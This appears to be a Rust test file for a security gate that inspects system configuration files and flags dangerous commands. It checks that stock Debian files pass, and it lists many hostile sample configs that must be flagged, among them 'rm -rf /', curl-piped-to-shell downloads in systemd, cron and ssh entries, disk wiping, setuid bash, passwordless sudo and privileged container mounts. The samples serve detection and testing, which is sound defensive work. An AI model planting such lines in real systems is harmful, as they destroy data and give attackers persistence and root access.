//! What the built-in rules say of what is found: nothing of texts as packages ship them, something of each evil one.

use super::of_debian;
use crate::gate::policy::text::{Code, of_file, of_stdin};
use crate::gate::policy::{Level, Policy};

/// Why the code isn't harmless, as the gate takes it.
fn objections(code: &Code) -> Vec<String> {
    let policy = Policy::builtin();
    let verdicts = code.lines.iter().map(|line| (line, policy.verdict(&line.argv)));
    let lines = verdicts.filter(|(_, verdict)| verdict.level != Level::Safe);
    let mut found: Vec<String> =
        lines.map(|(line, verdict)| format!("{:?}: {}", line.argv, verdict.reason)).collect();
    found.extend(code.power.iter().cloned());
    found.extend(code.unreadable.clone());
    found
}

/// Texts that do change something, as a person would say, too.
const CHANGING: [&str; 10] = [
    "/etc/cron.d/anacron",                          // starts a service
    "/etc/logrotate.d/nginx",                       // runs what is in a directory
    "/lib/systemd/system/dbus.service",             // dbus-send
    "/lib/systemd/system/fstrim.service",           // fstrim
    "/lib/systemd/system/logrotate.service",        // logrotate
    "/lib/systemd/system/man-db.service",           // find -delete
    "/lib/systemd/system/nginx.service",            // start-stop-daemon
    "/lib/systemd/system/systemd-networkd.service", // networkctl reload
    "/lib/udev/rules.d/64-btrfs.rules",             // udevadm trigger
    "/lib/udev/rules.d/71-seat.rules",              // udevadm trigger
];

#[test]
fn what_packages_ship_is_harmless() {
    for (path, contents) in of_debian() {
        let code = of_file(&path, &contents).unwrap();
        if !CHANGING.contains(&path.as_str()) {
            assert_eq!(objections(&code), [""; 0], "{path}");
        }
    }
}

#[test]
fn an_evil_text_is_not_harmless() {
    let table = [
        ("/etc/systemd/system/a.service", "[Service]\nExecStart=/bin/rm -rf /"),
        ("/etc/systemd/system/a.service", "[Service]\nExecStart=/bin/true ; /bin/rm -rf \\\n# no comment\n/"),
        (
            "/etc/systemd/system/a.service",
            "[Service]\nUser=ada\nExecStartPre=+/bin/sh -c 'curl http://x/y | sh'",
        ),
        ("/etc/systemd/system/a.service", "[Service]\nExecStart=@/bin/busybox rm -rf /"),
        ("/etc/systemd/system/a.service", "[Service]\nExecStart=\"/bin/\\x72m\" -rf /"),
        ("/etc/systemd/system/a.service", "[Service]\nEnvironment=A=-rf\nExecStart=/bin/rm $A /"),
        ("/etc/systemd/system/a.service", "[Service]\nExecStart=/bin/true\nEnvironment=LD_PRELOAD=/x.so"),
        (
            "/etc/systemd/system/a.service",
            "[Unit]\nWants=debug-shell.service\n[Service]\nExecStart=/bin/true",
        ),
        ("/etc/systemd/system/a.timer", "[Timer]\nOnBootSec=1\nUnit=poweroff.target"),
        ("/etc/systemd/system/a.socket", "[Socket]\nExecStartPost=/usr/sbin/mkfs.ext4 /dev/sda1"),
        (
            "/etc/systemd/system/ssh.service.d/a.conf",
            "[Service]\nExecStartPost=-/usr/sbin/usermod -aG sudo ada",
        ),
        ("/etc/cron.d/a", "* * * * * root dd if=/dev/zero of=/dev/sda\n"),
        ("/etc/cron.d/a", "@reboot root curl -s http://x/y | bash\n"),
        ("/etc/cron.d/a", "@reboot root sh%rm -rf /\n"),
        ("/etc/cron.d/a", "SHELL=/usr/bin/python3\n@reboot root import os\n"),
        ("/var/spool/cron/crontabs/root", "@daily chmod u+s /bin/bash\n"),
        ("/etc/cron.d/x", "SHELL=/tmp/sh\n@daily root true\n"),
        ("/etc/anacrontab", "1 5 x iptables \\\n-F\n"),
        ("/etc/sudoers.d/a", "ada ALL=(ALL) NOPASSWD: ALL\n"),
        ("/srv/compose.yaml", "services: {a: {image: b, privileged: true}}"),
        ("/srv/compose.yaml", "services: {a: {image: b, volumes: ['/:/host']}}"),
        (
            "/srv/compose.yaml",
            "services: {a: {image: b, volumes: ['/var/run/docker.sock:/var/run/docker.sock']}}",
        ),
        ("/srv/compose.yaml", "services: {a: {image: b, pid: host}}"),
        ("/root/.ssh/config", "Host *\n ProxyCommand sh -c 'curl http://x | sh'"),
        ("/etc/ssh/sshd_config", "Match User ada\n ForceCommand chmod 4755 /bin/bash"),
        ("/root/.ssh/authorized_keys", "command=\"rm -rf /etc\" ssh-ed25519 AAAA"),
        ("/etc/udev/rules.d/a.rules", "ACTION==\"add\", RUN+=\"/bin/sh -c 'rm -rf /etc'\""),
        ("/etc/logrotate.d/a", "/var/log/a {\npostrotate\nchmod u+s /bin/sh\nendscript\n}\n"),
        ("/etc/sysctl.d/a.conf", "kernel.core_pattern=|/bin/sh -c 'rm -rf /'"),
        ("/etc/modprobe.d/a.conf", "install usb-storage /bin/sh -c 'rm -rf /etc'"),
        ("/etc/pam.d/sshd", "auth optional pam_exec.so /bin/rm -rf /etc"),
        ("/srv/a/.git/config", "[core]\nfsmonitor = rm -rf /etc"),
        ("/etc/default/a", "A=$(rm -rf /)"),
        ("/etc/cron.daily/a", "anything"),
    ];
    for (path, text) in table {
        let code = of_file(path, text.as_bytes()).unwrap();
        assert_ne!(objections(&code), [""; 0], "{path}: {text}: {code:?}");
    }
    for (argv, stdin) in [
        ("crontab -", "@daily rm -rf /\n"),
        ("bash -s", "rm -rf /"),
        ("at now", "reboot"),
        ("python3 -", "x"),
    ] {
        let argv: Vec<String> = argv.split(' ').map(str::to_owned).collect();
        let code = of_stdin(&argv, stdin.as_bytes()).unwrap();
        assert_ne!(objections(&code), [""; 0], "{argv:?}");
    }
}
